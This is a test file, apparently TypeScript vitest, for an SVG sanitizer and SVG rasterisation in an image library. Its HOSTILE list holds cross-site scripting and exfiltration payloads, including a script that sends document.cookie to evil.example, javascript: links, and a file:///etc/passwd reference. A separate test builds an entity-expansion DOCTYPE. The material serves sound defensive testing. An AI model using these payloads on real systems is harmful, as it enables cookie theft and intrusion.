import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { DEFAULT_PRESETS, withVersion } from '../../src/domain/preset.js';
import { DEFAULT_IMAGING_LIMITS, type ImagingLimits, probe, render, sanitizeSvg } from '../../src/imaging/index.js';
import { colourDistance, makeSvg, pixelAt } from '../support/images.js';

const enabled: ImagingLimits = { ...DEFAULT_IMAGING_LIMITS, allowSvg: true };
const presets = DEFAULT_PRESETS.map(withVersion);

const HOSTILE = [
  '<script>fetch("http://evil.example/steal?" + document.cookie)</script>',
  '<script type="text/javascript"><![CDATA[ if (1 < 2) { alert("x") } ]]></script>',
  '<rect width="10" height="10" onload="alert(1)" onclick="alert(2)" fill="rgb(40,60,200)"/>',
  '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/"></iframe></foreignObject>',
  '<iframe src="http://evil.example/"/>',
  '<image href="http://evil.example/tracker.png" width="10" height="10"/>',
  '<image xlink:href="file:///etc/passwd" width="10" height="10" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
  '<use href="http://evil.example/sprite.svg#icon"/>',
  '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>',
  '<a href="&#106;avascript:alert(1)"><rect width="1" height="1"/></a>',
  '<style>@import url("http://evil.example/x.css"); .x { fill: url(http://evil.example/p.svg#g) }</style>',
  '<rect style="fill: url(\'http://evil.example/f\')" width="1" height="1"/>',
  '<rect filter="url(https://evil.example/f.svg#blur)" width="1" height="1"/>',
  '<set attributeName="href" to="http://evil.example/"/>',
  '<?xml-stylesheet href="http://evil.example/s.css"?>',
];

describe('sanitizeSvg', () => {
  const dirty = makeSvg({ extra: HOSTILE.join('\n') }).toString('utf8');
  const clean = sanitizeSvg(dirty);

  it('removes scripts, event handlers, embedded documents and external references', () => {
    expect(dirty).toContain('<script');
    for (const gone of [
      '<script',
      'alert(',
      'onload',
      'onclick',
      'foreignObject',
      '<iframe',
      'evil.example',
      'file://',
      'javascript:',
      '@import',
      'xml-stylesheet',
      '<set',
    ]) {
      expect(clean, gone).not.toContain(gone);
    }
  });

  it('keeps the drawing, fragment references and raster data URIs', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">' +
      '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>' +
      '<rect id="r" width="10" height="10" fill="url(#g)"/><use xlink:href="#r"/>' +
      '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>' +
      '<text x="1" y="5">a &amp; b &lt; c</text></svg>';
    const out = sanitizeSvg(svg);
    expect(out).toContain('fill="url(#g)"');
    expect(out).toContain('xlink:href="#r"');
    expect(out).toContain('href="data:image/png;base64,iVBORw0KGgo="');
    expect(out).toContain('<linearGradient id="g">');
    expect(out).toContain('a &amp; b &lt; c');
  });

  it('drops SVG documents embedded as data URIs and the DOCTYPE (no entity expansion)', () => {
    const svg =
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>' +
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/svg+xml;base64,PHN2Zy8+"/><text>&lol2;</text></svg>';
    const out = sanitizeSvg(svg);
    expect(out.startsWith('<?xml version="1.0"?><svg')).toBe(true);
    expect(out).not.toContain('ENTITY');
    expect(out).not.toContain('svg+xml');
  });

  it('skips the whole subtree of a removed element', () => {
    const out = sanitizeSvg(
      '<svg><foreignObject><div><p>html</p><svg><rect/></svg></div></foreignObject><circle r="1"/></svg>',
    );
    expect(out).toBe('<svg><circle r="1"/></svg>');
  });
});

describe('SVG input', () => {
  it('is refused when disabled', async () => {
    await expect(render({ buffer: makeSvg() }, presets, DEFAULT_IMAGING_LIMITS)).rejects.toMatchObject({
      code: 'TS_SVG_DISABLED',
    });
  });

  it('is rasterised when enabled, with the hostile parts gone and the drawing intact', async () => {
    const buffer = makeSvg({ width: 300, height: 200, extra: HOSTILE.join('\n') });
    const variants = await render({ buffer }, presets, enabled);
    expect(variants.map((v) => [v.width, v.height])).toEqual([
      [150, 100],
      [300, 200],
      [300, 200],
    ]);
    // An SVG is transparent where nothing is drawn; here the two rects cover it, so the output is opaque.
    const medium = variants[1]!;
    expect(medium.format).toBe('jpeg');
    expect(colourDistance(await pixelAt(medium.data, 75, 150), [220, 40, 40])).toBeLessThanOrEqual(8);
    expect(colourDistance(await pixelAt(medium.data, 225, 150), [40, 180, 60])).toBeLessThanOrEqual(8);
    expect((await sharp(medium.data).metadata()).format).toBe('jpeg');
  });

  it('an SVG declaring a huge canvas is refused from its header', async () => {
    await expect(probe({ buffer: makeSvg({ width: 100000, height: 100000 }) }, enabled)).rejects.toMatchObject({
      code: 'TS_IMAGE_TOO_MANY_PIXELS',
    });
  });

  it('broken XML is corrupt', async () => {
    await expect(
      probe({ buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect') }, enabled),
    ).rejects.toMatchObject({ code: 'TS_IMAGE_CORRUPT' });
  });
});
